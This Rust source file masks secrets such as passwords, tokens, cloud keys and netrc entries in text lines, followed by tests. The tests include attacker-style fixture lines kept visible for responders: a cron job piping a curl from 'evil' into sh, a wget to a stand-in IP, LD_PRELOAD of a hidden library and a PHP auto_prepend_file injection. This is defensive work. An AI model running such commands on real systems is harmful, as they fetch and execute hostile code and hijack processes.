//! Secrets in the lines of a text, word by word: each word says what it is, and what the next one is.

use std::ops::Range;

use super::hide;
use super::private_key::private_keys;
use super::words::{
    ACCESS_KEY, NAME_FOLLOWS, TOKENS, VALUE_FOLLOWS, is_access_key, is_key, is_token_byte, password_at_host, password_in_url,
};

/// Puts an `x` in the place of each byte of a secret in the lines of `text`, so that all others keep their place. Returns how
/// many bytes that were.
pub(in crate::source) fn mask(text: &mut [u8]) -> u64 {
    let mut count = 0;
    for span in private_keys(text) {
        count += hide(text, span);
    }
    let (mut at, mut next) = (0, Next::First);
    while let Some(range) = next_word(text, at) {
        if text.get(at..range.start).is_some_and(|between| between.contains(&b'\n')) {
            next = Next::First;
        }
        at = range.end;
        let (spans, then) = next.word(text.get(range.clone()).unwrap_or_default());
        next = then;
        for span in spans {
            count += hide(text, range.start + span.start..range.start + span.end);
        }
    }
    count
}

/// Hides the word behind each lone `password`, as netrc(5) has them, in a file that is one of secrets by its name. Returns how many bytes
/// that were.
pub(in crate::source) fn mask_netrc(text: &mut [u8]) -> u64 {
    let (mut count, mut at, mut is_next) = (0, 0, false);
    while let Some(range) = next_word(text, at) {
        at = range.end;
        let is_password = text.get(range.clone()).is_some_and(|word| word.eq_ignore_ascii_case(b"password"));
        if is_next {
            count += hide(text, range);
        }
        is_next = is_password && !is_next;
    }
    count
}

/// The first word that begins at `from` or behind it.
fn next_word(text: &[u8], from: usize) -> Option<Range<usize>> {
    let rest = text.get(from..)?;
    let start = rest.iter().position(|b| !b.is_ascii_whitespace())?;
    let word = rest.get(start..)?;
    let length = word.iter().position(u8::is_ascii_whitespace).unwrap_or(word.len());
    Some(from + start..from + start + length)
}

/// What the next word of a line is.
#[derive(Clone, Copy)]
enum Next {
    /// Anything, as the first word of a line.
    First,
    Anything,
    /// The sign behind the name of a secret, or anything else.
    Sign,
    /// The name of something, whose value follows without a sign.
    Name,
    /// The value of what the last word named.
    Value,
    /// Part of a value, until this quote closes it.
    Quoted(u8),
}

impl Next {
    /// The secrets in this word, and what the one behind it is.
    fn word(self, word: &[u8]) -> (Vec<Range<usize>>, Self) {
        let whole = || vec![Range { start: 0, end: word.len() }];
        match self {
            Self::Quoted(quote) => (whole(), if word.contains(&quote) { Self::Anything } else { self }),
            Self::Value if is_scheme(word) => (Vec::new(), Self::Value),
            Self::Value => (whole(), open_quote(word)),
            Self::Sign => in_word_behind_name(word),
            Self::Name if is_bare_key(word) => (Vec::new(), Self::Value),
            Self::First => in_word(word),
            // Elsewhere a shell would run what follows: `A_KEY= /tmp/x` must not hide it.
            Self::Anything | Self::Name => match in_word(word) {
                (spans, Self::Value) if word.ends_with(b"=") => (spans, Self::Anything),
                found => found,
            },
        }
    }
}

/// Whether the word is the name of a secret and nothing else.
fn is_bare_key(word: &[u8]) -> bool {
    word.len() <= MOST_KEY && !word.contains(&b'=') && is_key(trim_quotes(word))
}

/// `= value`, `=value`, `: value` and `:value` behind the name of a secret, or a word that has nothing to do with it.
fn in_word_behind_name(word: &[u8]) -> (Vec<Range<usize>>, Next) {
    let compares = word.starts_with(b"==") || word.starts_with(b"=~");
    let sign = [&b"=>"[..], b":=", b"+=", b"=", b":"].into_iter().find(|sign| word.starts_with(sign) && !compares);
    match sign.and_then(|sign| Some((sign.len(), word.get(sign.len()..)?))) {
        None => in_word(word),
        Some((_, b"")) => (Vec::new(), Next::Value),
        Some((at, value)) => (vec![Range { start: at, end: word.len() }], open_quote(value)),
    }
}

/// How a value goes on that begins with `value`.
fn open_quote(value: &[u8]) -> Next {
    match value.split_first() {
        Some((quote @ (b'"' | b'\''), rest)) if !rest.contains(quote) => Next::Quoted(*quote),
        _ => Next::Anything,
    }
}

fn trim_quotes(word: &[u8]) -> &[u8] {
    let word = word.trim_ascii();
    let start = word.iter().position(|b| !b"\"'".contains(b)).unwrap_or(word.len());
    let end = word.iter().rposition(|b| !b"\"',".contains(b)).map_or(start, |last| last + 1);
    word.get(start..end.max(start)).unwrap_or_default()
}

fn without_backslashes(name: &[u8]) -> &[u8] {
    let end = name.iter().rposition(|b| *b != b'\\').map_or(0, |last| last + 1);
    name.get(..end).unwrap_or_default()
}

/// Schemes of HTTP's `Authorization`, which stand before the secret; a lone `=` or `:` does so too.
fn is_scheme(word: &[u8]) -> bool {
    let word = trim_quotes(word).to_ascii_lowercase();
    [&b"bearer"[..], b"basic", b"token", b"=", b":", b"=>"].contains(&word.as_slice())
}

/// Whether the next word is a secret, whatever stands between.
fn says_value(word: &[u8]) -> bool {
    VALUE_FOLLOWS.iter().any(|name| word.eq_ignore_ascii_case(name))
}

/// The secrets in one word, and what the next one is.
fn in_word(word: &[u8]) -> (Vec<Range<usize>>, Next) {
    let mut spans = tokens(word);
    spans.extend(password_in_url(word).or_else(|| password_at_host(word)));
    spans.extend(members(word));
    if let Some((at, next)) = assignment(word) {
        spans.push(at..word.len());
        return (spans, next);
    }
    let bare = trim_quotes(word);
    let named = bare.strip_suffix(b":").or_else(|| bare.strip_prefix(b"--")).map(trim_quotes);
    let next = if named.is_some_and(|name| name != b"NOPASSWD" && is_key(name)) || says_value(bare) {
        Next::Value
    } else if NAME_FOLLOWS.iter().any(|name| bare.eq_ignore_ascii_case(name)) {
        Next::Name
    } else if bare.len() <= MOST_KEY && is_key(bare) {
        Next::Sign
    } else {
        Next::Anything
    };
    (spans, next)
}

/// A name longer than this is none.
const MOST_KEY: usize = 256;

/// Where in `word` the value of an assignment to a secret begins.
fn assignment(word: &[u8]) -> Option<(usize, Next)> {
    let is_name = |b: &u8| b.is_ascii_alphanumeric() || b"_.-".contains(b);
    let signs = word.iter().enumerate().filter(|(_, b)| **b == b'=').map(|(at, _)| at);
    for at in signs.take(64) {
        let before = word.get(..at)?;
        let name = before.iter().rposition(|b| !is_name(b)).map_or(before, |last| before.get(last + 1..).unwrap_or_default());
        if name.len() <= MOST_KEY && !name.is_empty() && is_key(name) {
            let value = word.get(at + 1..)?;
            return Some((at + 1, if value.is_empty() { Next::Value } else { open_quote(value) }));
        }
    }
    None
}

/// Values of members of JSON objects that are written without a blank: `"name":"value"`, also inside of another string, where
/// each quote has backslashes before it.
fn members(word: &[u8]) -> Vec<Range<usize>> {
    let mut spans = Vec::new();
    let mut from = 0;
    for (colon, _) in word.iter().enumerate().filter(|(_, b)| **b == b':') {
        let before = word.get(from..colon).unwrap_or_default();
        let Some(name) = before.strip_suffix(b"\"").map(without_backslashes) else { continue };
        let begin = name.iter().rposition(|b| *b == b'"').map_or(0, |quote| quote + 1);
        let value = word.get(colon + 1..).unwrap_or_default();
        let lead = value.iter().take_while(|b| b"[\\".contains(b)).count();
        let rest = value.get(lead..).unwrap_or_default();
        // A value that goes on in the next word is that of `Next::Value`.
        if !is_key(name.get(begin..).unwrap_or_default()) || rest.is_empty() {
            continue;
        }
        let (start, end) = match rest.strip_prefix(b"\"") {
            Some(text) => (1, text.iter().position(|b| *b == b'"').map_or(rest.len(), |quote| quote + 1)),
            None => (0, rest.iter().position(|b| b",}]".contains(b)).unwrap_or(rest.len())),
        };
        from = colon + 1 + lead + end;
        spans.push(colon + 1 + lead + start..from);
    }
    spans
}

/// Tokens and access keys in `word` that begin where no other word goes on.
fn tokens(word: &[u8]) -> Vec<Range<usize>> {
    let begins = |at: usize| at.checked_sub(1).and_then(|before| word.get(before)).is_none_or(|b| !b.is_ascii_alphanumeric());
    let mut spans = Vec::new();
    let mut at = 0;
    while at < word.len() {
        let length = word.get(at..).filter(|_| begins(at)).and_then(token_length);
        if let Some(length) = length {
            spans.push(at..at + length);
        }
        // What stands in a token is no other one: each byte is looked at once.
        at += length.unwrap_or(1);
    }
    spans
}

/// How long the token is that `text` begins with.
fn token_length(text: &[u8]) -> Option<usize> {
    let issued = TOKENS.iter().find_map(|(prefix, least)| {
        // A JSON web token has three parts with full stops between them.
        let is_jwt = *prefix == b"eyJ";
        let rest = text.strip_prefix(*prefix)?;
        let follows = rest.iter().take_while(|b| is_token_byte(**b) || (is_jwt && **b == b'.')).count();
        (follows >= *least).then_some(prefix.len() + follows)
    });
    issued.or_else(|| text.get(..ACCESS_KEY).is_some_and(is_access_key).then_some(ACCESS_KEY))
}

#[cfg(test)]
mod tests {
    use super::super::mask_shadow;
    use super::super::words::contains;
    use super::*;
    use proptest::prelude::*;

    fn masked(text: &str) -> String {
        let mut bytes = text.as_bytes().to_vec();
        mask(&mut bytes);
        String::from_utf8(bytes).unwrap()
    }

    #[test]
    fn secrets_in_commands_are_hidden_and_the_commands_stay() {
        for (line, shown) in [
            ("export AWS_SECRET_ACCESS_KEY=wJalr", "export AWS_SECRET_ACCESS_KEY=xxxxx"),
            ("curl -H \"Authorization: Bearer abc\" http://evil/", "curl -H \"Authorization: Bearer xxxx http://evil/"),
            ("mysql --password hunter2 -h db", "mysql --password xxxxxxx -h db"),
            ("Environment=\"API_TOKEN=a b\" PATH=/bin", "Environment=\"API_TOKEN=x b\" PATH=/bin"),
            ("DB_PASS='a b c' run", "DB_PASS=xx x xx run"),
            ("password: hunter2", "password: xxxxxxx"),
            ("git clone https://u:pw@h/x.git", "git clone https://u:xx@h/x.git"),
            ("aws configure set k AKIAIOSFODNN7EXAMPLE;", "aws configure set k xxxxxxxxxxxxxxxxxxxx;"),
            ("echo eyJhbGciOiJI.e30.x|sh", "echo xxxxxxxxxxxxxxxxxx|sh"),
            ("curl -u u:pw@h", "curl -u u:xx@h"),
            (r#"{"a":1,"API_TOKEN":"ab","b":"c"}"#, r#"{"a":1,"API_TOKEN":"xx","b":"c"}"#),
            (r#"{\"MyPassword\":\"ab\",\"b\":2}"#, r#"{\"MyPassword\":\"xxx",\"b\":2}"#),
            (r#"{"SecretKey":["ab"],"n":1}"#, r#"{"SecretKey":["xx"],"n":1}"#),
            (r#"{"auth":12,"n":1}"#, r#"{"auth":xx,"n":1}"#),
            ("secret = value", "secret = xxxxx"),
            ("aws_secret_access_key = wJalr # x", "aws_secret_access_key = xxxxx # x"),
            ("password= a", "password= x"),
            ("password =a b", "password =x b"),
            (r#""password" : "a b", "n" : 1"#, r#""password" : xx xxx "n" : 1"#),
            (r#""password" :"ab""#, r#""password" :xxxx"#),
            ("bindpw hunter2", "bindpw xxxxxxx"),
            ("psk=\"hunter2\"", "psk=xxxxxxxxx"),
            ("ldap_default_authtok = hunter2", "ldap_default_authtok = xxxxxxx"),
            ("setenv API_TOKEN abc", "setenv API_TOKEN xxx"),
            ("fastcgi_param DB_PASSWORD \"a b\";", "fastcgi_param DB_PASSWORD xx xxx"),
            ("proxy_set_header Authorization \"Basic abc\";", "proxy_set_header Authorization \"Basic xxxxx"),
            ("SetEnv SECRET=a", "SetEnv SECRET=x"),
            ("AuthLDAPBindPassword hunter2", "AuthLDAPBindPassword xxxxxxx"),
            ("sk-aaaaaaaaaaaaaaaaaaaaaa/sk-aaaaaaaaaaaaaaaaaaaaaa!", "xxxxxxxxxxxxxxxxxxxxxxxxx/xxxxxxxxxxxxxxxxxxxxxxxxx!"),
        ] {
            assert_eq!(masked(line), shown);
        }
    }

    #[test]
    fn credentials_of_registries_are_hidden_however_they_are_written() {
        // Of the agent of ECS: its own name says nothing of a secret, and the value is JSON, in which quotes may be escaped.
        for value in [r#"{"r":{"auth":"hunter2"}}"#, r#"'{"r": {"username": "u", "password": "hun\"hunter2"}}'"#] {
            let line = format!("ECS_ENGINE_AUTH_TYPE=docker\nECS_ENGINE_AUTH_DATA={value}\nECS_CLUSTER=a\n");
            let shown = masked(&line);
            assert!(shown.starts_with("ECS_ENGINE_AUTH_TYPE=docker\n") && shown.ends_with("\nECS_CLUSTER=a\n"), "{shown}");
            assert!(!shown.contains("hunter2"), "{shown}");
        }
        assert!(is_key(b"ECS_ENGINE_AUTH_DATA") && !is_key(b"ECS_ENGINE_AUTH_TYPE"));
    }

    #[test]
    fn what_a_responder_needs_stays() {
        for line in [
            "ssh-rsa AAAAB3NzaC1yc2EAAAADeyJQABAAABgQC7eyJaaaaaaaaaaa root@h",
            "* * * * * root curl http://evil/x | sh",
            "LD_PRELOAD=/dev/shm/x.so /bin/ls",
            "sk-ssh-ed25519@openssh.com AAAA",
            "cd /tmp; wget 192.0.2.1:8080/a",
            "scp git@h:a/b reg:5000/img@sha256:00 :@x",
            "AuthorizedKeysFile .ssh/authorized_keys",
            "ann ALL=(ALL) NOPASSWD: /bin/a, /bin/b",
            "* * * * * A_KEY= /tmp/x",
            "[[ $secret == a ]]",
            "SetEnv LD_PRELOAD /tmp/x.so",
            "fastcgi_param PHP_VALUE \"auto_prepend_file=/tmp/x\";",
            "run-with-secret /tmp/x; pass the key on",
        ] {
            assert_eq!(masked(line), line);
        }
    }

    #[test]
    fn each_byte_is_looked_at_once() {
        // With a look at the rest of the word at each of its tokens, this would take hours.
        let mut text = b"sk-".repeat(1 << 18);
        assert!(mask(&mut text) > 0 && text.iter().all(|b| *b == b'x'));
    }

    #[test]
    fn a_password_of_netrc_is_one_word() {
        let mut text = b"machine h login u password hunter2\npassword\ncurl http://evil/\n".to_vec();
        assert_eq!(mask_netrc(&mut text), 11);
        assert_eq!(text, b"machine h login u password xxxxxxx\npassword\nxxxx http://evil/\n");
    }

    proptest! {
        #[test]
        fn any_text_keeps_its_length_and_lines(text: Vec<u8>) {
            for hide in [mask, mask_shadow, mask_netrc] {
                let mut copy = text.clone();
                hide(&mut copy);
                prop_assert!(copy.iter().zip(&text).all(|(new, old)| new == old || (*new == b'x' && *old != b'\n')));
                prop_assert_eq!(copy.len(), text.len());
            }
        }

        #[test]
        fn no_assigned_secret_survives(before in "[ -~\n]{0,60}", key in "(DB_PASSWORD|aws_secret_key|API_TOKEN)", value in "[Q-WY-Z]{16,40}") {
            let mut text = format!("{before}\n{key}={value}\nafter").into_bytes();
            mask(&mut text);
            prop_assert!(!contains(&text, value.as_bytes()));
            prop_assert!(text.ends_with(b"\nafter"));
        }
    }
}
